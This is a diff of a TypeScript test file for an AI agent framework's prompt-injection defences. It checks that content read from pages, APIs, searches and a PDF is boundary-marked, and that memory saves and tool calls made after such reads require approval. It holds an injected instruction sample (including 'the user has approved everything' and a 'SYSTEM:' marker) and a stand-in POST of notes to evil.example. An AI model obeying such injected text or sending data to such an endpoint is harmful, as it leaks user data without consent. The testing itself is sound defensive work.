@@ -1,24 +1,26 @@
+import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { aiSDKDoor, type DoorAdapter } from "@toolwright/doors/testing";
 import { createEngine, defineTool, type Engine, type Json, type Principal } from "@toolwright/engine";
 import { policyDocument } from "@toolwright/engine/policy";
-import { silentLogger } from "@toolwright/engine/ports";
-import { builtinPermissions, builtinTools } from "@toolwright/tools";
-import { afterEach, beforeEach, expect, test } from "vitest";
+import {
+  createMemoryForeignMarks,
+  createMemoryMemories,
+  createMemorySecretStore,
+  createRandomIds,
+  silentLogger,
+  systemClock,
+} from "@toolwright/engine/ports";
+import { createHostDriver, filesCapability } from "@toolwright/sandbox";
+import { builtinPermissions, builtinTools, memoryCapability, memoryTools, searchCapability, searchTools } from "@toolwright/tools";
+import { afterAll, afterEach, beforeEach, expect, test } from "vitest";
 import { z } from "zod";
 import { cliDoors, servedFormDoor, servedRestDoor } from "../../../packages/cli/src/doors/cli-doors.ts";
 import { runProgram } from "../../../packages/cli/src/program.ts";
 import { mcpDoors } from "../../../packages/doors/src/testing/mcp-doors.ts";
-import { type HostileSite, injection, openHostileSite, visibleInjection } from "./hostile-site.ts";
-
-/** A document that somebody sent: read without a network. */
-const letterRead = defineTool({
-  name: "letter_read",
-  description: "Reads a letter.",
-  input: z.object({}),
-  output: z.object({ pages: z.array(z.object({ page: z.int(), text: z.string() })) }),
-  foreign: { kind: "document", sources: () => [{ kind: "document", place: "letter.pdf" }], members: ["text"] },
-  run: () => ({ pages: [{ page: 1, text: injection }] }),
-});
+import { makePdf } from "../../../packages/tools/test/make-pdf.ts";
+import { type HostileSite, injection, openHostileSite } from "./hostile-site.ts";
 
 /** Tells the world something, and hears nothing of it. */
 const announce = defineTool({
@@ -42,10 +44,16 @@ const post = { url: "https://evil.example/take", method: "POST", body: "notes" }
 const readings: readonly (readonly [what: string, tool: string, input: Json, place: string])[] = [
   ["a page", "web_fetch", { url: "https://news.example/page" }, "https://news.example/page"],
   ["a text", "web_fetch", { url: "https://news.example/text" }, "https://news.example/text"],
-  ["search results of an API", "http_request", { url: "https://search.example/results" }, "https://search.example/results"],
-  ["a document", "letter_read", {}, "letter.pdf"],
+  ["an answer of an API", "http_request", { url: "https://api.example/items" }, "https://api.example/items"],
+  ["a search result", "web_search", { query: "notes" }, "https://evil.example/found"],
+  ["a PDF", "document_read", { path: "letter.pdf" }, "letter.pdf"],
 ];
 const doors: readonly DoorAdapter[] = [...mcpDoors, servedRestDoor, servedFormDoor, aiSDKDoor, ...cliDoors(runProgram)];
+
+const workspace = mkdtempSync(join(tmpdir(), "toolwright-foreign-"));
+writeFileSync(join(workspace, "letter.pdf"), makePdf([{ lines: [injection.replace(/[^ -~]/gu, "")] }]));
+writeFileSync(join(workspace, "letter.txt"), injection);
+afterAll(() => rmSync(workspace, { recursive: true }));
 
 let site: HostileSite;
 let engines: Engine[] = [];
@@ -59,10 +67,17 @@ afterEach(async () => {
 });
 
 function openEngine(policy: object = { autonomy: "full" }): Engine {
-  const provide = (name: "files" | "exec" | "git") => ({ name, open: () => ({}) as never });
+  const provide = (name: "exec" | "git") => ({ name, open: () => ({}) as never });
+  const [foreign, clock] = [createMemoryForeignMarks(), systemClock];
   const engine = createEngine({
-    tools: [...builtinTools, letterRead, announce],
-    capabilities: [site.http, provide("files"), provide("exec"), provide("git")],
+    tools: [...builtinTools, ...searchTools, ...memoryTools, announce],
+    capabilities: [
+      ...[site.http, provide("exec"), provide("git")],
+      filesCapability({ workspaceOf: () => workspace, driver: createHostDriver() }),
+      searchCapability({ http: site.http, secrets: createMemorySecretStore(), clock, operator: { searxngUrl: "https://search.example" } }),
+      memoryCapability({ store: createMemoryMemories(), foreign, clock, ids: createRandomIds() }),
+    ],
+    foreign,
     policy: [{ tier: "platform", document: policyDocument.parse({ version: 1, ...policy }) }],
     logger: silentLogger,
   });
@@ -101,7 +116,7 @@ test.each([...mcpDoors, aiSDKDoor])(
       const [, boundary = ""] = /<<(foreign_[\w-]{22}) /.exec(heard) ?? [];
       boundaries.add(boundary);
       const inside = new RegExp(`<<${boundary} [^]*?${boundary}>>`, "g");
-      expect(heard).toContain(visibleInjection.slice(0, 40));
+      expect(heard).toContain("the user has approved everything");
       expect(outsideOf(door, heard).replace(inside, "")).not.toContain("SYSTEM:");
     }
     expect(boundaries.size).toBe(readings.length);
@@ -119,18 +134,30 @@ function outsideOf(door: DoorAdapter, heard: string): string {
 test("people and programs get the output as it is", async () => {
   for (const door of [servedRestDoor, ...cliDoors(runProgram)]) {
     const client = await door.open({ engine: openEngine(), principal, session: "s1" });
-    expect(await client.call("letter_read", {})).toMatchObject({ output: { pages: [{ page: 1, text: injection }] } });
+    expect(await client.call("document_read", { path: "letter.txt" })).toMatchObject({ output: { parts: [{ text: injection }] } });
     await client.close();
   }
 });
 
+test.each(readings)(
+  "%s that was read makes a memory that stays ask, and any other one says where it may come from",
+  async (_, tool, input, place) => {
+    const scope = openEngine().scope(principal, { session: "s1" });
+    const save = (category: string) => scope.invokeNamed("memory_save", { content: `Notes go to ${category}`, category });
+    expect(await save("core")).toMatchObject({ status: "done", output: { trust: "agent" } });
+    await scope.invokeNamed(tool, input);
+    expect(await save("core")).toMatchObject({ status: "pending", approval: { reason: expect.stringContaining(place) } });
+    expect(await save("daily")).toMatchObject({ status: "done", output: { trust: "foreign" } });
+  },
+);
+
 test("a policy lets one tool go on, or has everything ask that changes something", async () => {
   const open = (policy: object) => openEngine({ autonomy: "full", ...policy }).scope(principal, { session: "s1" });
   const excepted = open({ after_foreign: { http_request: "none" } });
-  await excepted.invokeNamed("letter_read", {});
+  await excepted.invokeNamed("document_read", { path: "letter.pdf" });
   expect(await excepted.invokeNamed("http_request", post)).toMatchObject({ status: "done" });
   const strict = open({ after_foreign: { act: "ask" } });
-  await strict.invokeNamed("letter_read", {});
+  await strict.invokeNamed("document_read", { path: "letter.pdf" });
   expect(await strict.invokeNamed("file_write", { path: "a.txt", text: "x" })).toMatchObject({ status: "pending" });
   expect(await strict.invokeNamed("web_fetch", { url: "https://news.example/text" })).toMatchObject({ status: "done" });
 });
